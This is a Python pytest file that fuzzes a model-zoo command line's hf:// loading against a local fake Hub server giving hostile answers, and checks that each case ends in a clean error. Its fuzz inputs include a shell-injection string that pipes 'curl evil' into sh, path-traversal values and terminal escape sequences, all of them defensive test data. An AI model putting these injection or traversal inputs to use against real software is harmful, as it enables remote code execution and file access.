"""Fuzzing ``hf://``: hypothesis draws hostile Hub answers, zoo must answer each with a clean error.

Each case is a fresh repository on ``tests/hubserver.py`` (in this process),
whose files and ``faults.json`` (the server's "Hostile answers") hypothesis
draws: a model info that lies about the commit or the files, malformed or
oversized ``config.json`` and indexes, error statuses with control characters
in their messages, downloads whose headers name impossible commits or ETags,
bodies that are not what the metadata promised. One long-lived worker process
runs the real command line (``zoo_core.cli.main``) for each case against that
server, so the client is the real huggingface_hub, imported once.

Every case must end in exit 0, 1 or 2 within the transfer limits, with no
internal error, no traceback and no control character on stderr. The default
run is small; with ``CI=true`` (as ``.ci/run`` sets it) it runs the full count.
"""

from __future__ import annotations

import hashlib
import itertools
import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import zoo_core

sys.path.insert(0, str(Path(__file__).resolve().parent))
from hubserver import HubServer, client_env

EXAMPLES = 1500 if os.environ.get("CI", "").lower() == "true" else 20
# A hanging case is a failure: the worker gets this long per case (limits below are 3 s + 2 s).
CASE_TIMEOUT = 40.0

WORKER = textwrap.dedent(
    """
    import contextlib, io, json, sys
    from zoo_core.cli import main

    for line in sys.stdin:
        args = json.loads(line)
        out, err = io.StringIO(), io.StringIO()
        code = None
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                main(args)
            except SystemExit as exit:
                code = exit.code
            except BaseException as exc:  # escaped main(): report it, keep serving
                code = f"escaped {type(exc).__name__}: {exc}"
        answer = {"code": code, "stdout": out.getvalue(), "stderr": err.getvalue()}
        sys.__stdout__.write(json.dumps(answer) + "\\n")
        sys.__stdout__.flush()
    """
)


class Worker:
    """A ``zoo`` command line kept running, fed one argument list per line."""

    def __init__(self, env: dict[str, str], log: Path) -> None:
        self.env, self.log = env, log
        self.process: subprocess.Popen[str] | None = None

    def start(self) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-c", WORKER],
            env=self.env,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=self.log.open("a"),
            text=True,
        )

    def run(self, args: list[str]) -> dict[str, Any]:
        if self.process is None or self.process.poll() is not None:
            self.start()
        assert self.process is not None and self.process.stdin and self.process.stdout
        self.process.stdin.write(json.dumps(args) + "\n")
        self.process.stdin.flush()
        reader = _ReadLine(self.process.stdout)
        line = reader.get(CASE_TIMEOUT)
        if line is None:
            self.stop()
            pytest.fail(f"zoo {' '.join(args)} did not finish within {CASE_TIMEOUT} s")
        return json.loads(line)

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        self.process = None


class _ReadLine:
    """Read one line with a timeout (a thread, since pipes have no portable timeouts)."""

    def __init__(self, stream: Any) -> None:
        import threading

        self.line: str | None = None
        self.thread = threading.Thread(target=self._read, args=(stream,), daemon=True)
        self.thread.start()

    def _read(self, stream: Any) -> None:
        self.line = stream.readline() or None

    def get(self, timeout: float) -> str | None:
        self.thread.join(timeout)
        return self.line


@pytest.fixture(scope="module")
def fuzz_hub(memory_tmp: Callable[[str], Path]) -> Iterator[tuple[HubServer, Worker]]:
    # Each case writes a repository and downloads into a cache: a dozen small files that
    # cost far less in memory than on a busy disk.
    root = memory_tmp("fuzz-hub")
    server = HubServer(root / "repos")
    url = server.start()
    env = {
        **os.environ,
        **client_env(url, root / "home"),
        "HF_HUB_DISABLE_PROGRESS_BARS": "1",
        "ZOO_HUB_TIMEOUT": "3",
        "ZOO_HUB_STALL_TIMEOUT": "2",
    }
    worker = Worker(env, root / "worker.log")
    try:
        yield server, worker
    finally:
        worker.stop()
        server.stop()


@pytest.fixture(scope="module")
def model_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """A real saved model's files: the material the hostile repositories start from."""
    directory = zoo_core.save_model(
        zoo_core.create_model("linear_regression", seed=0),
        tmp_path_factory.mktemp("fuzz-model") / "lr",
    )
    return {p.name: p.read_bytes() for p in directory.iterdir()}


# -- strategies -------------------------------------------------------------------------------

nasty_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "",
            "../../x",
            "..",
            "a" * 41,
            "f" * 40,
            "zoo: error: spoofed\nsecond line",
            "\x1b[2J\x1b[31mred",
            "\u202eevil",
            "zoo-cnn' && curl evil | sh && echo '",
            "model.safetensors",
            "config.json",
            "0" * 64,
        ]
    ),
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | nasty_text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(nasty_text, inner, max_size=4),
    max_leaves=12,
)
header_names = st.sampled_from(
    ["X-Repo-Commit", "ETag", "X-Linked-Etag", "X-Linked-Size", "X-Error-Code", "X-Error-Message"]
)
# Header values travel as latin-1 on the wire; keep them to what http.server can send.
header_values = st.one_of(
    st.none(),
    st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=50),
    st.sampled_from(['"' + "a" * 40 + '"', "../../../etc", "f" * 40, "-1", "99999999999"]),
)
statuses = st.sampled_from([200, 200, 200, 206, 301, 400, 401, 403, 404, 409, 410, 416, 500])


@st.composite
def config_bytes(draw: st.DrawFn, record: dict[str, Any]) -> bytes:
    choice = draw(st.integers(0, 3))
    if choice == 0:
        return json.dumps(record).encode()
    if choice == 1:  # a zoo record with some fields replaced by anything
        mutated = dict(record)
        for key in draw(st.lists(st.sampled_from([*record, "files", "extra"]), max_size=4)):
            mutated[key] = draw(json_values)
        return json.dumps(mutated).encode()
    if choice == 2:
        return json.dumps(draw(json_values)).encode()
    return draw(st.binary(max_size=200))


@st.composite
def hostile_case(draw: st.DrawFn, files: dict[str, bytes]) -> dict[str, Any]:
    record = json.loads(files["config.json"])
    repo_files = {"config.json": draw(config_bytes(record))}
    if draw(st.booleans()):
        repo_files["model.safetensors"] = files["model.safetensors"]
    else:
        weights = files["model.safetensors"]
        index: Any = {"weight_map": {"linear.weight": "model-00001-of-00001.safetensors"}}
        if draw(st.booleans()):
            index = draw(json_values)
        repo_files["model.safetensors.index.json"] = json.dumps(index).encode()
        repo_files["model-00001-of-00001.safetensors"] = weights
    if draw(st.booleans()):
        repo_files["README.md"] = draw(st.binary(max_size=100))
    faults: dict[str, Any] = {}
    if draw(st.booleans()):
        info = {}
        if draw(st.booleans()):
            info["sha"] = draw(json_values)
        if draw(st.booleans()):
            info["siblings"] = draw(
                st.lists(
                    st.fixed_dictionaries(
                        {"rfilename": json_values},
                        optional={"size": json_values, "blobId": json_values},
                    ),
                    max_size=5,
                )
                | json_values
            )
        faults["info"] = info
    if draw(st.integers(0, 9)) == 0:
        faults["info_status"] = draw(statuses)
        faults["info_raw"] = draw(st.one_of(nasty_text, json_values.map(json.dumps)))
    if draw(st.booleans()):
        target = draw(st.sampled_from([*repo_files, "*"]))
        fault: dict[str, Any] = {}
        if draw(st.booleans()):
            fault["headers"] = draw(st.dictionaries(header_names, header_values, max_size=3))
        if draw(st.booleans()):
            fault["status"] = draw(statuses)
        if draw(st.booleans()):
            fault["body"] = draw(nasty_text)
        faults["resolve"] = {target: fault}
    command = draw(st.sampled_from(["load", "info", "pull", "verify"]))
    return {"files": repo_files, "faults": faults, "command": command}


_numbers = itertools.count()


def publish(server: HubServer, files: dict[str, bytes], faults: dict[str, Any]) -> str:
    """A new repository on the in-process server holding ``files``, answering per ``faults``."""
    repo_id = f"fuzz/case-{next(_numbers)}"
    repo = server.store.create("model", repo_id, False, "zoo")
    tree = dict(repo.commit(repo.meta["branches"]["main"])["files"])
    for name, data in files.items():
        if name.endswith(".safetensors"):
            tree[name] = repo.lfs_file(repo.store_blob(data))
        else:
            tree[name] = repo.regular_file(data)
    repo.add_commit("main", tree, "fuzz case", "", "zoo")
    (repo.path / "faults.json").write_text(json.dumps(faults))
    return repo_id


def check_answer(args: list[str], answer: dict[str, Any]) -> None:
    stderr = answer["stderr"]
    shown = f"zoo {' '.join(args)} -> {answer['code']!r}\n{stderr}"
    assert answer["code"] in (0, 1, 2, None), shown
    assert "internal error" not in stderr and "Traceback" not in stderr, shown
    assert not any((c < " " and c != "\n") or "\x7f" <= c <= "\x9f" for c in stderr), shown
    assert "\u202e" not in stderr, shown
    errors = [line for line in stderr.splitlines() if line.startswith("zoo: error:")]
    assert len(errors) <= 1, shown
    assert not any("spoofed" in line for line in stderr.splitlines()[1:] if "zoo: error" in line)


@pytest.mark.slow
@given(data=st.data())
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,  # the same cases every run: a CI failure reproduces
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
def test_hostile_hub_answers_end_in_clean_errors(
    fuzz_hub: tuple[HubServer, Worker], model_files: dict[str, bytes], data: st.DataObject
) -> None:
    server, worker = fuzz_hub
    case = data.draw(hostile_case(model_files))
    repo_id = publish(server, case["files"], case["faults"])
    args = [case["command"], f"hf://{repo_id}" if case["command"] != "pull" else repo_id]
    check_answer(args, worker.run(args))


def test_the_fuzz_server_serves_a_sound_case(
    fuzz_hub: tuple[HubServer, Worker], model_files: dict[str, bytes]
) -> None:
    """The harness itself: an untouched repository loads, so failures above are zoo's."""
    server, worker = fuzz_hub
    repo_id = publish(server, model_files, {})
    answer = worker.run(["load", f"hf://{repo_id}", "--json"])
    assert answer["code"] in (0, None), answer["stderr"]
    loaded = json.loads(answer["stdout"])
    assert loaded["architecture"] == "linear_regression"
    weights = hashlib.sha256(model_files["model.safetensors"]).hexdigest()
    assert json.loads(model_files["config.json"])["files"]["model.safetensors"]["sha256"] == weights
